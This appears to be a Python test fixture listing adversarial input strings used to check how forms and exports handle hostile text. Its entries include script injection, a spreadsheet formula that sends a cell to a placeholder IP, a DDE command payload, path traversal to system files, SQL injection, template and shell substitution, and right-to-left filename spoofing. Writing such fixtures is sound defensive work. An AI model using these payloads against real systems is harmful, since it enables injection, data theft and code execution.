"""Texts that something might take for an instruction, or stumble over."""

TEXTS = {
    "markup": "<b>bold</b> <script>alert(1)</script> <img src=http://192.0.2.1/x.png onerror=x()> &amp; &#x41; ]]>",
    "paper markup": '<para><font color="[[[getattr(pow,Word(\'__globals__\'))]]]">x</font><br/><a href="javascript:x">',
    "style": "</style><style>*{display:none}</style> <!-- \" onload='x' -->",
    "formula": '=HYPERLINK("http://192.0.2.1/"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "formula signs": "+1+1 @SUM(A1) -2+3 \t=1",
    "path": "../../../etc/passwd\\..\\..\\windows\\CON.txt",
    "SQL": "Robert'); DROP TABLE patient;--  \" OR 1=1; %_ :id {x} %s ?",
    "control": "bell\x07 escape\x1b[31m return\r\nnext\ttab\x0bfeed\x0c delete\x7f",
    "right to left": "abc \u202egnp.exe\u202c \u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u0645\u0631\u0636",
    "not seen": "a\u200bb\u00adc\ufeffd\u2028e\u2029f",
    "letters": "Ω ß ﬁ İı ǅ é e\u0301 Å \U0001f469\u200d\U0001f52c \U0010ffff \uffff \U0001d518",
    "braces": "{} {0} {{x}} %(x)s %n ${x} $(id) `id` \\n \\u0041",
    "the longest that is taken": ("long words " * 1_819)[:20_000],
}
"""What it is -> the text."""
TOO_LONG = "long words " * 95_326
"""A megabyte: no form takes it."""
